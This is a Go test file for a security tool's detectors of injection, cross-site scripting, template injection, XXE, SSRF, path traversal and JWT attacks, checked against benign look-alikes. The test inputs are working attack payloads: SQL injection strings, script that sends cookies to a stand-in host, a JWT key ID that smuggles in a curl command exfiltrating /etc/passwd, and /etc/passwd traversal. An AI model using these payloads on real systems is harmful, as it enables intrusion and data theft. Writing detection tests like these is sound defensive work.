package detect

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/golang-jwt/jwt/v5"

	"github.com/vigilsec/vigil"
)

// The classes below were added after an independent holdout corpus
// (testdata/holdout) showed the detectors missing them. The variants here
// are written for these tests, not taken from the holdout, and each class
// comes with the benign text it must leave alone.

func cookie(v string) func(*vigil.Exchange) { return hdr("Cookie", v) }

func TestCookieLeaves(t *testing.T) {
	tests := []struct {
		name   string
		cookie string
		want   []string // "key=value" of the cookie leaves
	}{
		{"decoded, session ids skipped", "PHPSESSID=abc; theme=dark%20mode; sid=s1; cart=%7B%22n%22%3A1%7D",
			[]string{"theme=dark mode", "cart={\"n\":1}", "n=n", "n=1"}}, // the JSON's key, then its value
		{"credential names skipped", "auth_token=x; csrftoken=y; api_key=z; lang=en", []string{"lang=en"}},
		{"quoted value and plus", `pref="a+b"; empty=; =novalue; flag`, []string{"pref=a b"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			x := ex("GET", "https://a.test/", cookie(tc.cookie))
			var got []string
			for l := range Leaves(&x.Request) {
				if l.Source == SourceCookie || l.prefix != "" {
					got = append(got, l.Key+"="+l.Value)
				}
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("cookie leaves %q, want %q", got, tc.want)
			}
		})
	}
}

func TestInjectionInCookies(t *testing.T) {
	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
		{"sqli in a cookie", ex("GET", "https://a.test/", cookie("lang=en; region=1%27+OR+%271%27%3D%271")), "fingerprint"},
		{"benign cookies", ex("GET", "https://a.test/", cookie("_ga=GA1.2.1234.5678; consent=%7B%22ads%22%3Afalse%7D; lang=en-GB")), ""},
		{"a session cookie is never read", ex("GET", "https://a.test/", cookie("session=1' OR '1'='1")), ""},
	})
	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
		{"xss in a cookie", ex("GET", "https://a.test/", cookie("nick=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")), "libinjection"},
		{"benign markup-free cookie", ex("GET", "https://a.test/", cookie("recent=shoes%2Cbags%2Chats")), ""},
	})
	runCases(t, NewOther(), "detect.injection.other", []detCase{
		{"traversal in a cookie", ex("GET", "https://a.test/", cookie("tpl=..%2F..%2F..%2Fetc%2Fpasswd")), techTraversal},
		{"jndi in a cookie", ex("GET", "https://a.test/", cookie("x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D")), techJNDI},
	})
}

func TestSQLShape(t *testing.T) {
	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
		{"quote then hash comment", ex("POST", "https://a.test/login", body("application/x-www-form-urlencoded", "user=root%27%23&pass=x")), "commented out"},
		{"email, quote, dash comment", ex("POST", "https://a.test/login", body("application/json", `{"user":"ann@shop.test' -- ","pass":"y"}`)), "commented out"},
		{"stacked select after a sort key", ex("GET", "https://a.test/u?sort=price+asc%3B+select+sleep(4)--"), "stacked SELECT"},
		{"subquery in a select list", ex("POST", "https://a.test/r", body("application/json", `{"fields":"id,(select case when (2>1) then id else 0 end)"}`)), "subquery"},
		// libinjection catches these; sqlShape would too.
		{"quote, paren, dash comment", ex("POST", "https://a.test/login", body("application/json", `{"user":"bob') -- x","pass":"y"}`)), "SQL injection"},
		{"stacked drop", ex("GET", "https://a.test/u?sort=name%3B+DROP+TABLE+users"), "SQL injection"},
		{"benign quoted aside", ex("POST", "https://a.test/r", body("application/json", `{"text":"She said \"fine\" -- and left"}`)), ""},
		{"benign apostrophe and dash", ex("POST", "https://a.test/r", body("application/json", `{"text":"O'Neil -- the best seller"}`)), ""},
		{"benign semicolon select", ex("POST", "https://a.test/r", body("application/json", `{"text":"Pick a size; select from the list below"}`)), ""},
		{"benign delete request", ex("POST", "https://a.test/r", body("application/json", `{"text":"Thanks; delete from my wishlist please"}`)), ""},
		{"benign parenthesised select", ex("POST", "https://a.test/r", body("application/json", `{"text":"(select one option) then continue"}`)), ""},
		{"benign hashtag", ex("POST", "https://a.test/r", body("application/json", `{"text":"it's #1 in sales"}`)), ""},
	})
}

func TestOtherHiddenCommands(t *testing.T) {
	runCases(t, NewOther(), "detect.injection.other", []detCase{
		{"brace expansion", ex("GET", "https://a.test/p?host=x%3B%7Bwhoami%2C-a%7D"), "brace expansion"},
		{"glob spelling", ex("GET", "https://a.test/p?host=x%7C%2Fb%3F%3F%2Fw%3F%3Fami"), "wildcards"},
		{"windows type", ex("POST", "https://a.test/p", body("application/x-www-form-urlencoded", "dir=x%26%26type+d%3A%5Cboot.ini")), techCmd},
		{"recon in a markdown span still counts", ex("POST", "https://a.test/r", body("application/json", "{\"c\":\"see `whoami` here\"}")), techCmd},
		{"benign brace list", ex("POST", "https://a.test/r", body("application/json", `{"c":"Sizes; {S,M,L} in stock"}`)), ""},
		{"benign question marks", ex("POST", "https://a.test/r", body("application/json", `{"c":"Really?? /now?? ok"}`)), ""},
		{"benign inline code", ex("POST", "https://a.test/r", body("application/json", "{\"c\":\"Try `npm ci | tail -3` first\"}")), ""},
		{"benign fenced code", ex("POST", "https://a.test/r", body("application/json", "{\"c\":\"```bash\\nmake test\\n```\"}")), ""},
	})
}

func TestOtherTemplatesAndXML(t *testing.T) {
	runCases(t, NewOther(), "detect.injection.other", []detCase{
		{"velocity runtime", ex("GET", "https://a.test/p?n=%23set(%24a%3D%27%27)%23set(%24r%3D%24a.getClass().forName(%27java.lang.Runtime%27))"), techSSTI},
		{"smarty system", ex("POST", "https://a.test/p", body("application/json", `{"n":"{system('uname')}"}`)), techSSTI},
		{"twig filter callback", ex("POST", "https://a.test/p", body("application/json", `{"n":"{{['cat /etc/hostname']|map('passthru')}}"}`)), techSSTI},
		{"external DTD", ex("POST", "https://a.test/x", body("application/xml", `<?xml version="1.0"?><!DOCTYPE a PUBLIC "-//X//Y" "http://evil.test/a.dtd"><a/>`)), "external DTD"},
		{"entity expansion", ex("POST", "https://a.test/x", body("application/xml", `<!DOCTYPE a [<!ENTITY x "xx"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>`)), "expand"},
		{"benign velocity-free hash", ex("POST", "https://a.test/p", body("application/json", `{"n":"Order #set(3) shipped"}`)), ""},
		{"benign twig filter", ex("POST", "https://a.test/p", body("application/json", `{"n":"{{ user.name | upper }}"}`)), ""},
		{"benign internal entity", ex("POST", "https://a.test/x", body("application/xml", `<!DOCTYPE n [<!ENTITY w "Jane">]><n>&w;</n>`)), ""},
		{"benign html doctype", ex("POST", "https://a.test/x", body("text/html", `<!DOCTYPE html><html><body>hi</body></html>`)), ""},
	})
}

func TestScriptURLCharRefs(t *testing.T) {
	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
		{"tab reference", ex("GET", "https://a.test/p?next=java%26%23x09%3Bscript%3Aalert(1)"), "script URL"},
		{"named colon", ex("GET", "https://a.test/p?next=javascript%26colon%3Balert(1)"), "script URL"},
		{"decimal letters", ex("GET", "https://a.test/p?next=%26%23118vbscript%3Amsgbox"), ""}, // "vvbscript:": not a scheme
		{"benign ampersand", ex("GET", "https://a.test/p?q=Tom+%26+Jerry%3A+java+script"), ""},
	})
}

// TestSQLNameEndingInKeyword: a name that ends in SQL's keywords injects
// nothing; the same words with columns after them do.
func TestSQLNameEndingInKeyword(t *testing.T) {
	j := func(v string) func(*vigil.Exchange) {
		b, _ := json.Marshal(map[string]string{"partner": v})
		return body("application/json", string(b))
	}
	post := func(v string) *vigil.Exchange { return ex("POST", "https://a.test/v2/redemptions", j(v)) }
	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
		{"benign hotel name", post("Hotel Union Select"), ""},
		{"benign union name", post("Credit Union Select"), ""},
		{"union select with columns", post("Hotel' UNION SELECT password FROM users--"), "SQL injection"},
		{"numeric union select", post("1 union select 1,2,3"), "SQL injection"},
	})
}

// TestSQLShapeClasses checks sqlShape alone, also on what libinjection
// already catches: each shape must hold without it.
func TestSQLShapeClasses(t *testing.T) {
	tests := []struct{ v, want string }{
		{"admin'#", "commented out"},
		{"x') /* y", "commented out"},
		{`bob" -- `, "commented out"},
		{"1; DROP TABLE users", "stacked DROP"},
		{"5; waitfor delay '0:0:5'", "WAITFOR"},
		{"x'; exec xp_cmdshell 'dir'--", "commented out"},
		{"a; insert into t values(1)", "stacked INSERT"},
		{"(select if(1=1,sleep(3),0))", "subquery"},
		{"(SELECT @@version)", "subquery"},
		{"it's #1", ""},
		{`a "b" -- c`, ""},
		{"lunch; select a table by the window", ""},
		{"(select all that apply)", ""},
		{"tea; update me when it ships", ""},
		{"drop-off; create an account", ""},
		{"x' union all select 1,2,3", "UNION SELECT"},
		{"admin\" or 1=1 -- ", "a condition"},
		{"9 waitfor delay '0:0:4'", "timing probe"},
		{"1 and pg_sleep(3) is null", "timing probe"},
		{"x'; shutdown--", "stacked SHUTDOWN"},
		{"Rock'n'roll or jazz -- both", ""},
		{"O'Neil and Smith -- partners", ""},
		{"don't union select workers", ""},
		{"wait for delay, then retry", ""},
		// An apostrophe in a word first makes the quotes even.
		{"O'Brien' AND 1=1 UNION SELECT card_number FROM payments--", "commented out"},
		{"D'Angelo' or 1=1 -- ", "a condition"},
		{"L'Oréal' or 'a'='a' #", "a condition"},
		{"O'Brien' and 'x' like 'x'--", "a condition"},
		{"Choose 'yes' or 'no' --", ""},
		{"Tom's 'best' and worst -- ever", ""},
		{"She said 'a=b' and left #", ""},
		{"Vote 'yes' and share #", ""},
		{"the 'union select' clause -- see docs", ""},
		{"id,name FROM campaigns WHERE 1=1 UNION SELECT email,password_hash FROM users--", "UNION SELECT"},
		{"1 union/**/all/**/select user,pass from users#", "UNION SELECT"},
		{"date`, (SELECT password FROM users LIMIT 1) AS `x", "backtick"},
		{"`name`) union select 1,2 from dual where `a", "backtick"},
		{"Credit union select members from the list --", ""},
		{"see `ls`, (select one) below", ""},
	}
	for _, tc := range tests {
		got := sqlShape(tc.v)
		if tc.want == "" && got != "" || tc.want != "" && !strings.Contains(got, tc.want) {
			t.Errorf("sqlShape(%q) = %q, want %q", tc.v, got, tc.want)
		}
	}
}

func TestInjectionInXMLValues(t *testing.T) {
	soap := func(inner string) func(*vigil.Exchange) {
		return body("text/xml; charset=utf-8", `<?xml version="1.0"?><env:Envelope xmlns:env="http://schemas.xmlsoap.org/soap/envelope/"><env:Body><m:Find xmlns:m="urn:m">`+inner+`</m:Find></env:Body></env:Envelope>`)
	}
	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
		{"sqli behind &apos;", ex("POST", "https://a.test/soap", soap(`<m:name>x&apos; OR &apos;1&apos;=&apos;1</m:name>`)), "fingerprint"},
		{"sqli in an attribute", ex("POST", "https://a.test/soap", soap(`<m:item id="1 UNION SELECT pass FROM users--"/>`)), "fingerprint"},
		{"benign soap", ex("POST", "https://a.test/soap", soap(`<m:name>O&apos;Brien</m:name><m:note>select the 2nd option</m:note>`)), ""},
	})
	runCases(t, NewSSRF(), "detect.ssrf", []detCase{
		{"ssrf in an xml url field", ex("POST", "https://a.test/soap", soap(`<m:callbackUrl>http://169.254.169.254/latest/meta-data/</m:callbackUrl>`)), "metadata"},
		{"benign public callback", ex("POST", "https://a.test/soap", soap(`<m:callbackUrl>https://hooks.partner.example/cb</m:callbackUrl>`)), ""},
	})
}

func TestOtherMoreClasses(t *testing.T) {
	runCases(t, NewOther(), "detect.injection.other", []detCase{
		{"nosql operator as a query name", ex("GET", "https://a.test/s?%24where=this.a%3D%3Dthis.b"), "runs code"},
		{"nul between dots and slash", ex("POST", "https://a.test/f", body("application/json", `{"doc":"..%00/..%00/..%00/etc/shadow"}`)), techTraversal},
		{"benign ampersand between words after a separator", ex("POST", "https://a.test/sms", body("application/json", `{"body":"Drop off keys at reception; cat & dog both fed. See you Sunday!"}`)), ""},
		{"nosql operator on an api key", ex("GET", "https://a.test/v3/members?api_key%5B%24regex%5D=%5Ea"), "api_key"},
		{"benign nosql filter on a sort key", ex("GET", "https://a.test/v3/members?filter%5Bsort_key%5D%5B%24in%5D=a"), ""},
		{"benign xhtml e-mail template", ex("POST", "https://a.test/t", body("application/json", `{"html":"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\"><html><body><p>Hi</p></body></html>"}`)), ""},
		{"external dtd in an xml value", ex("POST", "https://a.test/t", body("application/json", `{"xml":"<!DOCTYPE foo SYSTEM \"http://x.test/evil.dtd\"><foo/>"}`)), techXXE},
		{"a whole value in ansi-c quoting", ex("GET", "https://a.test/u?sort=%24%27%5Cx69%5Cx64%27"), techCmd},
		{"benign dollar-quote price", ex("GET", "https://a.test/u?note=%24%27s+worth"), ""},
		{"jinja statement block with dunder chain", ex("GET", "https://a.test/m?q=%7B%25+for+c+in+%5B%5D.__class__.__base__.__subclasses__%28%29+%25%7D%7B%7Bc.__name__%7D%7D%7B%25+endfor+%25%7D"), techSSTI},
		{"benign jinja statement in a template", ex("POST", "https://a.test/t", body("application/json", `{"tpl":"{% if subscriber.plan == 'pro' %}Thanks!{% endif %}"}`)), ""},
		{"a whole value in brace expansion", ex("GET", "https://a.test/u?q=%7Bcat%2C%2Fetc%2Fpasswd%7D"), techCmd},
		{"benign brace list", ex("GET", "https://a.test/u?fields=%7Bid%2Cname%7D"), ""},
		{"benign brace list after a separator", ex("GET", "https://a.test/u?fields=a%3B%7Bid%2Cname%7D"), ""},
		{"brace command after a separator", ex("GET", "https://a.test/u?q=a%3B%7Bcat%2C%2Fetc%2Fpasswd%7D"), techCmd},
		{"unbraced IFS between wildcard words", ex("GET", "https://a.test/r?style=x%3B%2F%3F%3F%3F%2Fc%3Ft%24IFS%2F%3F%3F%3F%2Fp%3F%3Fs%3F%3F"), techCmd},
		{"benign dollar IFS word in prose", ex("POST", "https://a.test/n", body("application/json", `{"note":"the $IFS variable splits words in bash"}`)), ""},
		{"background job after a weak command", ex("GET", "https://a.test/p?host=x%3B+cat+%26+id"), techCmd},
		{"overlong dots as path segments", ex("GET", "https://a.test/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), techTraversal},
		{"three-byte overlong dots in a segment", ex("GET", "https://a.test/files/%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/x"), techTraversal},
		{"benign accented path segment", ex("GET", "https://a.test/files/caf%c3%a9/men%c3%bc"), ""},
		{"quote-split command", ex("GET", "https://a.test/p?host=1.1.1.1%3Bu%22n%22ame+-a"), "split by quotes"},
		{"backslash-split command", ex("GET", "https://a.test/p?host=x%7Cwh%5Coami"), "split by quotes"},
		{"jinja attr chain", ex("POST", "https://a.test/t", body("application/json", `{"t":"{{ ''|attr('__class__') }}"}`)), techSSTI},
		{"erb file read", ex("POST", "https://a.test/t", body("application/json", `{"t":"<%= File.open('/etc/hosts').read %>"}`)), techSSTI},
		{"xxe in an uploaded svg", ex("POST", "https://a.test/u", body("multipart/form-data; boundary=B",
			"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n"+
				`<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/hostname">]><svg><text>&e;</text></svg>`+"\r\n--B--\r\n")), techXXE},
		{"benign odata name", ex("GET", "https://a.test/s?%24top=10&%24filter=name+eq+%27x%27"), ""},
		{"benign line starting with a word and a semicolon", ex("POST", "https://a.test/m", body("application/json", `{"m":"Call me back\n\nCat; dog and bird food"}`)), ""},
		{"benign possessive and semicolon", ex("POST", "https://a.test/m", body("application/json", `{"m":"it's late; don't wait"}`)), ""},
		{"benign uploaded svg", ex("POST", "https://a.test/u", body("multipart/form-data; boundary=B",
			"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n"+
				`<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`+"\r\n--B--\r\n")), ""},
	})
	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
		{"benign code condition", ex("POST", "https://a.test/q", body("application/json", `{"q":"if (total > 0 && !order.paid) { remind(); }"}`)), ""},
		{"benign prose starting with a T-SQL word", ex("POST", "https://a.test/q", body("application/json", `{"q":"Use the MAX() function, then MIN()"}`)), ""},
	})
}

func TestActiveUploads(t *testing.T) {
	upload := func(name, ct, content string) func(*vigil.Exchange) {
		return body("multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\""+name+
			"\"\r\nContent-Type: "+ct+"\r\n\r\n"+content+"\r\n--B--\r\n")
	}
	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
		{"svg script element", ex("POST", "https://a.test/u", upload("a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('//x.test/'+document.cookie)</script></svg>`)), "script element"},
		{"svg onload", ex("POST", "https://a.test/u", upload("b.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)), "event-handler"},
		{"html javascript link", ex("POST", "https://a.test/u", upload("c.html", "text/html", `<html><a href="javascript:alert(1)">x</a></html>`)), "script URL"},
		{"benign svg", ex("POST", "https://a.test/u", upload("d.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><text>Say hi on Monday = fun</text></svg>`)), ""},
		{"benign png", ex("POST", "https://a.test/u", upload("e.png", "image/png", "\x89PNG\r\n\x1a\n<script>")), ""},
	})
}

func TestFilterBypassAndReplacedSlashes(t *testing.T) {
	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
		{"split script tag", ex("GET", "https://a.test/s?q=%3Cscr%3Cscript%3Eipt%3Ealert(document.cookie)"), "split by another"},
		{"split script tag in a header", ex("GET", "https://a.test/", hdr("X-Client-Note", "<SCR<script>IPT>x()</SCR</script>IPT>")), "split by another"},
		{"benign text about tags", ex("POST", "https://a.test/r", body("application/json", `{"c":"I use <b> and <i> in my script notes"}`)), ""},
	})
	runCases(t, NewOther(), "detect.injection.other", []detCase{
		{"overlong slashes decoded to U+FFFD", ex("POST", "https://a.test/f", body("application/json", "{\"f\":\"..\uFFFD..\uFFFD..\uFFFDwin.ini\"}")), techTraversal},
		{"benign mojibake", ex("POST", "https://a.test/f", body("application/json", "{\"c\":\"Caf\uFFFD.. open at 9\"}")), ""},
	})
}

func TestMoreHiddenForms(t *testing.T) {
	runCases(t, NewOther(), "detect.injection.other", []detCase{
		{"ansi-c quoted command", ex("POST", "https://a.test/p", body("application/json", `{"note":"x;$'\\x77\\x68\\x6f\\x61\\x6d\\x69'"}`)), "escapes"},
		{"ansi-c octal", ex("GET", "https://a.test/p?h=1%7C%24%27%5C151%5C144%27"), "escapes"},
		{"razor process start in a path", ex("GET", "https://a.test/b/@(System.Diagnostics.Process.Start(%22calc%22))/x"), techSSTI},
		{"benign dollar quote", ex("POST", "https://a.test/p", body("application/json", `{"note":"price; $'5' off"}`)), ""},
		{"benign razor-like email", ex("POST", "https://a.test/p", body("application/json", `{"note":"mail me @(home) later"}`)), ""},
	})
	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
		{"script url in an attribute, with a character reference", ex("GET", "https://a.test/", hdr("X-Api-Version", `<a href="jav&#x09;ascript:alert(1)">x</a>`)), "attribute holds a script URL"},
		{"benign link markup", ex("POST", "https://a.test/r", body("application/json", `{"c":"<a href=\"https://docs.example/a?b=c\">docs</a>"}`)), ""},
	})
	kid := tok(t, map[string]any{"alg": "HS256", "kid": "k1 && curl -d @/etc/passwd x.test"}, jwt.MapClaims{"sub": "u1"}, "c2ln")
	runCases(t, NewJWT(JWTConfig{}), "detect.auth.jwt", []detCase{
		{"kid with &&", ex("GET", "https://a.test/", hdr("Authorization", "Bearer "+kid), resp(401, "")), "shell"},
		{"benign kid with an ampersand", ex("GET", "https://a.test/", hdr("Authorization", "Bearer "+tok(t, map[string]any{"alg": "HS256", "kid": "keys&certs-2026"}, jwt.MapClaims{"sub": "u1"}, "c2ln")), resp(401, "")), ""},
	})
}

// TestCommandInHTMLCode: rich text written in HTML quotes commands in
// <code> and <pre> as Markdown does with backticks.
func TestCommandInHTMLCode(t *testing.T) {
	j := func(html string) func(*vigil.Exchange) {
		b, _ := json.Marshal(map[string]string{"body_html": html})
		return body("application/json", string(b))
	}
	put := func(html string) *vigil.Exchange { return ex("PUT", "https://a.test/v1/articles/7", j(html)) }
	runCases(t, NewOther(), "detect.injection.other", []detCase{
		{"recon command in a code element", put("<p>Run <code>id; uname -a</code> now</p>"), "reconnaissance command id"},
		{"injection outside the code", put("<p>Use <code>git status</code> first</p>; cat /etc/passwd"), techCmd},
		{"code element without prose", put("<code>x; rm -rf /tmp/a</code>"), techCmd},
		{"benign command in a code element", put("<p>Use <code>git log --oneline | head</code> to see recent commits.</p>"), ""},
		{"benign pre block", put("<p>Check the service:</p><pre><code>curl -s localhost:8080/health | jq .status</code></pre><p>then restart it.</p>"), ""},
		{"benign pre with attributes", put(`<p>Try this:</p><pre class="shell">tail -f app.log | grep ERROR</pre>`), ""},
	})
}

// TestXSSNamespacedScriptUpload: an uploaded XML file whose script element
// has XHTML's namespace prefix runs as one in a browser.
func TestXSSNamespacedScriptUpload(t *testing.T) {
	up := func(file string) *vigil.Exchange {
		b := "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"feed.xml\"\r\nContent-Type: application/xml\r\n\r\n" + file + "\r\n--B--\r\n"
		return ex("POST", "https://a.test/imports", body("multipart/form-data; boundary=B", b))
	}
	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
		{"html:script in an xml upload", up(`<?xml version="1.0"?><products xmlns:html="http://www.w3.org/1999/xhtml"><item><html:script>alert(1)</html:script></item></products>`), "script element"},
		{"slash-separated handler in an svg upload", up(`<svg xmlns="http://www.w3.org/2000/svg"/onload=alert(1)><rect/></svg>`), "event-handler"},
		{"benign xml upload with a script field", up(`<?xml version="1.0"?><products><item><description>Shooting script: scene 4</description><x:scripts>none</x:scripts></item></products>`), ""},
	})
}

// TestXSSInRichHTML: templates, e-mails and documents to render are whole
// HTML documents, styles and all; only what runs script in them counts.
func TestXSSInRichHTML(t *testing.T) {
	doc := func(inner string) func(*vigil.Exchange) {
		b, _ := json.Marshal(map[string]string{"html": `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Letter</title><style>@page{size:A4}body{font-family:Arial}</style><link rel="stylesheet" href="https://cdn.a.test/print.css"></head><body><h1>Engagement</h1><div style="font-size:8px">Page <span class="pageNumber"></span></div>` + inner + `<p>Signed: {{signer.name}}</p></body></html>`})
		return body("application/json", string(b))
	}
	post := func(inner string) *vigil.Exchange {
		return ex("POST", "https://a.test/v2/documents/render", doc(inner))
	}
	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
		{"script element in a document", post(`<script>fetch('//x.test/'+document.cookie)</script>`), "cross-site scripting"},
		{"event handler in a document", post(`<img src=x onerror=alert(1)>`), "cross-site scripting"},
		{"slash-separated handler in a document", post(`<svg/onload=alert(1)>`), "cross-site scripting"},
		{"frame in a document", post(`<iframe src="https://x.test/"></iframe>`), "cross-site scripting"},
		{"script url in a document", post(`<a href="javascript:alert(1)">x</a>`), "cross-site scripting"},
		{"meta refresh in a document", post(`<meta http-equiv="refresh" content="0;url=https://x.test/">`), "cross-site scripting"},
		{"benign document with styles", post(`<table border="1"><tr><th>Party</th></tr><tr><td>{{signer1.name}}</td></tr></table>`), ""},
		{"benign header fragment", ex("POST", "https://a.test/v2/documents/render", body("application/json", `{"options":{"header_html":"<div style=\"font-size:8px\">Page <span class=\"pageNumber\"></span> of <span class=\"totalPages\"></span></div><p>Confidential</p>"}}`)), ""},
		{"short style payload still counts", ex("GET", "https://a.test/s?q=%3Cdiv+style%3D%22x%3Aexpression(alert(1))%22%3E"), "cross-site scripting"},
		{"benign scripting word in markup", ex("GET", "https://a.test/s?q=see+the+%3Cscripting%3E+guide+and+%3Cscripts%3E+list"), ""},
		{"benign styled fragment", ex("POST", "https://a.test/v2/documents/render", body("application/json", `{"options":{"header_html":"<div style=\"font-size:8px\">Page <span class=\"pageNumber\"></span></div>"}}`)), ""},
		{"styled fragment with a handler", ex("POST", "https://a.test/v2/documents/render", body("application/json", `{"header_html":"<div style=\"font-size:8px\" onmouseover=\"alert(1)\">Page</div>"}`)), "cross-site scripting"},
		{"attribute breakout without a tag", ex("GET", "https://a.test/s?q=%22+autofocus+onfocus%3Dalert(1)+x%3D%22"), "cross-site scripting"},
	})
}
